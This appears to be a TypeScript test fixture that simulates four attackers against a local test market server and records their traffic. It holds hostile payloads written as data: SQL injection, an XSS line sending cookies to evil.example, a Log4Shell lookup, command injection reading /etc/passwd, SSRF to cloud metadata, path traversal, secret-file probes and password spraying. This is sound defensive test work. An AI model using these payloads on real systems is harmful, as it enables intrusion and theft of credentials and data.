import { type ObservedMessage, RecordingClient } from '../recording-client.ts'
import type { Market } from './server.ts'

/** Name under which attackers reach the market, apart from the address that tests use. */
export const PUBLIC_HOST = 'market.example'
const GUESSED_ACCOUNTS = 12
const TRIED_ORDERS = 30

/** Somebody at an address of the documentation ranges (RFC 5737). */
class Attacker extends RecordingClient {
  constructor(market: Market, ip: string, agent = 'Mozilla/5.0') {
    super(market.origin, ip, { host: PUBLIC_HOST, 'user-agent': agent })
  }
}

/** Lets four attackers try the market, and returns what a mirror in front of it would have seen. */
export async function recordMarketAttacks(market: Market): Promise<ObservedMessage[]> {
  const attackers = [
    await injects(new Attacker(market, '198.51.100.23')),
    await looksForFiles(new Attacker(market, '198.51.100.77', 'sqlmap/1.8#stable (https://sqlmap.org)')),
    await triesPasswords(new Attacker(market, '192.0.2.145')),
    await triesOrders(new Attacker(market, '192.0.2.18')),
  ]
  return attackers.flatMap(({ messages }) => messages)
}

async function injects(client: Attacker): Promise<Attacker> {
  const values = [
    "' UNION SELECT name, secret FROM accounts--",
    "1'; DROP TABLE orders--",
    '<script>fetch("//evil.example/"+document.cookie)</script>',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}{{config.items()}}',
  ]
  for (const value of values) await client.call('GET', `/api/v2/search?q=${encodeURIComponent(value)}`)
  await client.call('GET', `/api/v2/tools/ping?host=${encodeURIComponent('localhost; cat /etc/passwd')}`)
  await client.call('POST', '/api/v2/webhooks/test', { url: 'http://169.254.169.254/latest/meta-data/' })
  return client
}

async function looksForFiles(client: Attacker): Promise<Attacker> {
  for (const path of ['/.env', '/.git/config', '/wp-login.php', '/backup.sql', '/server-status'])
    await client.call('GET', path)
  await client.call('GET', `/api/v2/files?name=${encodeURIComponent('../../../../etc/passwd')}`)
  return client
}

/** Accounts that do not exist: nobody is locked out. */
async function triesPasswords(client: Attacker): Promise<Attacker> {
  for (let at = 1; at <= GUESSED_ACCOUNTS; at++)
    await client.call('POST', '/api/v2/login', {
      email: `customer${at}@market.example`,
      password: 'Summer2026',
    })
  return client
}

async function triesOrders(client: Attacker): Promise<Attacker> {
  for (let at = 1; at <= TRIED_ORDERS; at++) await client.call('GET', `/api/v2/orders/${5000 + at}`)
  return client
}
